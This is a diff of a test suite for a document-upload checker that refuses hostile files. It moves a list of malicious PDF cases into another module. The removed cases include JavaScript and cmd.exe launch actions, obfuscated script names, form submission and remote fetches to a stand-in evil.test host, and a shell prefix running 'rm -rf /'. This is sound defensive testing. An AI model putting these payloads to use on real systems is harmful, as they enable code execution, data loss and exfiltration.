@@ -4,6 +4,7 @@ import { resumeBytes } from '#contract/hiring/resumes.ts'
 import { isFullRun } from '#server/app/test-time.ts'
 import { refusalOf } from './document-check.ts'
 import { macroTypes, makeDocx, makePdf, makeZip, packedObjects, sheetTypes } from './test-documents.ts'
+import { refusedPdfs } from './test-refused-pdfs.ts'
 
 const relation = (type: string, target: string, mode = 'External') => ({
   name: 'word/_rels/document.xml.rels',
@@ -71,182 +72,8 @@ test.each<[what: string, type: DocumentType, bytes: Buffer]>([
   expect(refusalOf(bytes, type)).toBeUndefined()
 })
 
-const action = (type: string) => `5 0 obj << /Type /Action ${type} >> endobj`
-const script = '8 0 << /S /JavaScript /JS (1) >>'
 const hostile: [what: string, type: DocumentType, bytes: Buffer, refusal: DocumentRefusal][] = [
-  ['a program', 'pdf', text('MZ\x90\0This program cannot be run'), 'notPdf'],
-  ['a web page', 'pdf', text('<html><script>alert(1)</script></html>'), 'notPdf'],
-  ['a drawing with a script', 'pdf', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'notPdf'],
-  ['a picture', 'pdf', Buffer.from('ffd8ffe000104a464946', 'hex'), 'notPdf'],
-  ['PostScript', 'pdf', text('%!PS-Adobe-3.0\n%%EOF'), 'notPdf'],
-  ['a PDF behind other bytes', 'pdf', Buffer.concat([text('GIF89a'), makePdf()]), 'notPdf'],
-  ['a PDF behind a shell script', 'pdf', Buffer.concat([text('#!/bin/sh\nrm -rf /\n'), makePdf()]), 'notPdf'],
-  ['a Word document called PDF', 'pdf', makeDocx(), 'notPdf'],
-  ['a PDF cut off', 'pdf', makePdf().subarray(0, 200), 'pdfCut'],
-  ['a PDF with a program behind it', 'pdf', makePdf({ end: '%%EOF\nMZ\x90' }), 'pdfCut'],
-  [
-    'a PDF with an archive behind it',
-    'pdf',
-    Buffer.concat([makePdf(), makeZip([{ name: 'a', content: 'b' }])]),
-    'pdfCut',
-  ],
-  [
-    'a PDF that is an archive as well',
-    'pdf',
-    makePdf({ objects: [withComment(makeZip([{ name: 'a.exe', content: 'MZ' }]), 300)] }),
-    'twoFormats',
-  ],
-  [
-    'a PDF that is a web page as well',
-    'pdf',
-    makePdf({ header: '%PDF-1.7\n%<script>alert(1)</script>' }),
-    'twoFormats',
-  ],
-  ['a PDF with a password', 'pdf', makePdf({ trailer: '/Encrypt 9 0 R' }), 'pdfPassword'],
-  ['a PDF with a password in place', 'pdf', makePdf({ trailer: '/Encrypt<< /Filter /Standard >>' }), 'pdfPassword'],
-  ['a PDF with a script', 'pdf', makePdf({ objects: [action('/S /JavaScript /JS (app.alert(1))')] }), 'pdfActive'],
-  [
-    'a PDF with a script, written in numbers',
-    'pdf',
-    makePdf({ objects: [action('/S /J#61v#61Script /JS (1)')] }),
-    'pdfActive',
-  ],
-  [
-    'a PDF with a script behind a comment',
-    'pdf',
-    makePdf({ objects: [action('/S%x\n/JavaScript /JS (1)')] }),
-    'pdfActive',
-  ],
-  ['a PDF with a script behind a zero', 'pdf', makePdf({ objects: [action('/S\0/JavaScript /JS (1)')] }), 'pdfActive'],
-  [
-    'a PDF with its script elsewhere',
-    'pdf',
-    makePdf({ objects: [action('/S 7 0 R'), '7 0 obj /JavaScript endobj'] }),
-    'pdfActive',
-  ],
-  [
-    'a PDF with named scripts',
-    'pdf',
-    makePdf({ objects: ['6 0 obj << /Names << /JavaScript 7 0 R >> >> endobj'] }),
-    'pdfActive',
-  ],
-  [
-    'a PDF with a packed script',
-    'pdf',
-    makePdf({ objects: [packedObjects('8 0 << /S /JavaScript /JS (1) >>')] }),
-    'pdfActive',
-  ],
-  ['a PDF that starts a program', 'pdf', makePdf({ objects: [action('/S /Launch /F (cmd.exe)')] }), 'pdfActive'],
-  [
-    'a PDF that sends a form',
-    'pdf',
-    makePdf({ objects: [action('/S /SubmitForm /F (https://evil.test)')] }),
-    'pdfActive',
-  ],
-  [
-    'a PDF that fetches another',
-    'pdf',
-    makePdf({ objects: [action('/S /GoToR /F (\\\\\\\\evil.test\\\\x)')] }),
-    'pdfActive',
-  ],
-  ['a PDF with a film', 'pdf', makePdf({ objects: ['6 0 obj << /Subtype /RichMedia >> endobj'] }), 'pdfActive'],
-  [
-    'a PDF with an XFA form',
-    'pdf',
-    makePdf({ objects: ['6 0 obj << /AcroForm << /XFA [ (x) 7 0 R ] >> >> endobj'] }),
-    'pdfActive',
-  ],
-  [
-    'a PDF with files inside',
-    'pdf',
-    makePdf({ objects: ['6 0 obj << /Names << /EmbeddedFiles 7 0 R >> >> endobj'] }),
-    'pdfAttachments',
-  ],
-  [
-    'a PDF with a file as a note',
-    'pdf',
-    makePdf({ objects: ['6 0 obj << /Subtype /FileAttachment >> endobj'] }),
-    'pdfAttachments',
-  ],
-  [
-    'a PDF with packed files',
-    'pdf',
-    makePdf({ objects: [packedObjects('8 0 << /Type /EmbeddedFile >>')] }),
-    'pdfAttachments',
-  ],
-  [
-    'a PDF packed twice',
-    'pdf',
-    makePdf({ objects: [packedObjects('8 0 << >>', { dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]' })] }),
-    'pdfUnusual',
-  ],
-  [
-    'a PDF with a predictor',
-    'pdf',
-    makePdf({
-      objects: [packedObjects('8 0 << >>', { dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' })],
-    }),
-    'pdfUnusual',
-  ],
-  [
-    'a PDF with damaged objects',
-    'pdf',
-    makePdf({ objects: [packedObjects('8 0 << >>', { pack: (bytes) => bytes as never })] }),
-    'pdfUnusual',
-  ],
-  [
-    'a PDF that unpacks to hundreds of megabytes',
-    'pdf',
-    makePdf({ objects: Array.from({ length: 8 }, () => packedObjects(zeros.toString('latin1'))) }),
-    'pdfUnusual',
-  ],
-  [
-    'a PDF with a packed script behind a comment that speaks of streams',
-    'pdf',
-    makePdf({ objects: [packedObjects(script, { dictionary: '% stream\n/Filter /FlateDecode' })] }),
-    'pdfActive',
-  ],
-  [
-    'a PDF with a packed script far behind its dictionary',
-    'pdf',
-    makePdf({ objects: [packedObjects(script, { dictionary: `/Filter /FlateDecode /Note (${'x'.repeat(5_000)})` })] }),
-    'pdfActive',
-  ],
-  [
-    'a PDF with a packed script that is not called so',
-    'pdf',
-    makePdf({ objects: [packedObjects(script, { type: '' })] }),
-    'pdfActive',
-  ],
-  [
-    'a PDF with a packed script behind a dictionary with brackets in a text',
-    'pdf',
-    makePdf({
-      objects: [
-        packedObjects(script, { dictionary: '/A (>> \\) stream ( )) /B << /C <3e3e> >> /Filter [/Fl#61teDecode]' }),
-      ],
-    }),
-    'pdfActive',
-  ],
-  [
-    'a PDF with a packed script in a short form',
-    'pdf',
-    makePdf({ objects: [packedObjects(script, { dictionary: '/F /Fl' })] }),
-    'pdfUnusual',
-  ],
-  [
-    'a PDF with a packed name of an action',
-    'pdf',
-    makePdf({ objects: [packedObjects('8 0 9 20 << /S 9 0 R /JS (1) >> /JavaScript')] }),
-    'pdfUnusual',
-  ],
-  [
-    'a PDF with a script behind a percent sign in a text',
-    'pdf',
-    makePdf({ objects: [action('/Note (100%) /S /JavaScript /JS (1)')] }),
-    'pdfActive',
-  ],
-
+  ...refusedPdfs.map(([what, bytes, refusal]) => [what, 'pdf', bytes, refusal] as (typeof hostile)[number]),
   ['an older Word file', 'docx', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'oldWord'],
   ['a PDF called Word', 'docx', makePdf(), 'notDocx'],
   ['a program called Word', 'docx', text('MZ\x90\0'), 'notDocx'],
@@ -512,12 +339,6 @@ const hostile: [what: string, type: DocumentType, bytes: Buffer, refusal: Docume
     'docxUnusual',
   ],
 ]
-
-/** The comment of the archive reaches to the end of the file. */
-function withComment(zip: Buffer, length: number): Buffer {
-  zip.writeUInt16LE(length, zip.length - 2)
-  return Buffer.concat([zip, Buffer.alloc(length, ' ')])
-}
 
 test.each(hostile)('%s (%s) is refused', (_, type, bytes, refusal) => {
   expect(refusalOf(bytes, type)).toBe(refusal)
